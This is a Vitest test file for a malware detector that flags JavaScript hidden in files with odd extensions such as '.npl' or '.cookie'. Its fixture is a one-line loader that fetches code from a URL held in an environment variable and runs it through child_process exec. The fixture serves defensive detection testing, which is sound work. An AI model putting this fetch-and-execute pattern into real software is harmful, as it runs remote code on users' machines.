import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './odd-script-extension.ts';

describe('odd-script-extension', () => {
  const script =
    "const h = require('https'); const c = require('child_process'); h.get(process.env.U, (r) => c.exec(String(r)));";
  it.each([
    ['env.npl', 'strong@1'],
    ['public/vite.cookie', 'strong@1'],
    ['lib/a.task', 'weak@1'],
  ])('%s', (file, expected) => {
    expect(fileHits(detector, file, script, { kind: 'javascript' })).toEqual([expected]);
  });
  it.each(['a.js', 'a.mts', 'a.ejs', 'a.snap', 'bin/run', '.eslintrc', 'a.hbs', 'a.js.bak', 'Makefile.in'])(
    'leaves %s alone',
    (file) => {
      expect(fileHits(detector, file, script, { kind: 'javascript' })).toEqual([]);
    },
  );
  it('leaves data and harmless scripts alone', () => {
    expect(fileHits(detector, 'a.npl', 'plain words', { kind: 'text' })).toEqual([]);
    expect(
      fileHits(
        detector,
        'a.foo',
        'export const color = "red"; export const size = 12; export default { color, size };',
        { kind: 'javascript' },
      ),
    ).toEqual([]);
    expect(fileHits(detector, 'a.foo', `#!/usr/bin/env node\n${script}`, { kind: 'javascript' })).toEqual([]);
  });
});
